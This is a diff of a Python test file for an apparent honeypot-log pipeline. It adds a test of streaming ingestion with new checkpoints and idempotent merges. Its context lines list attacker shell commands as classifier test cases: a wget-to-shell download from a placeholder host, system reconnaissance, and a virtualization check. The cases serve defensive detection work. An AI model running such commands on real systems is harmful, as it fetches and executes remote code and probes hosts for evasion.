@@ -75,6 +75,21 @@ def test_stream_equals_batch(spark, log, tmp_path):
     assert sorted(map(tuple, live["sessions"].select(names).collect())) == sorted(map(tuple, batch["sessions"].select(names).collect()))
 
 
+def test_stream_with_new_checkpoint(spark, tmp_path):
+    """A second query's batches count from 0 again and are added all the same; a batch that is repeated is not."""
+    store = Store(spark, f"file://{tmp_path}/store")
+    line = '{"session": "%s", "src_ip": "203.0.113.7", "eventid": "cowrie.session.connect", "timestamp": "2026-10-05T07:11:23.959011Z"}\n'
+    for name in ("aaa", "bbb"):
+        (tmp_path / name).mkdir()
+        (tmp_path / name / "0.json").write_text(line % name)
+        ingest_stream(spark, str(tmp_path / name), store, f"file://{tmp_path}/checkpoint-{name}").awaitTermination()
+    assert sorted(r.id for r in store.read()["sessions"].collect()) == ["aaa", "bbb"]
+    version = store.version()
+    store.merge(store.read(), "again")
+    store.merge(store.read(), "again")
+    assert store.version() == version + 1 and store.read()["sessions"].count() == 2
+
+
 CASES = {
     'bash -c "wget http://x/a | sh"': "T1105", "sh -c 'cat /proc/cpuinfo'": "T1082", "sh -c \"bash -c 'uname -a'\"": "T1082", 'echo "x; uname -a': "T1082",
     "\\wget http://x/a": "T1105", "( uname -a )": "T1082", "{ uname -a; }": "T1082", "if true; then uname -a; fi": "T1082", "dmesg | grep -i virtual": "T1497",
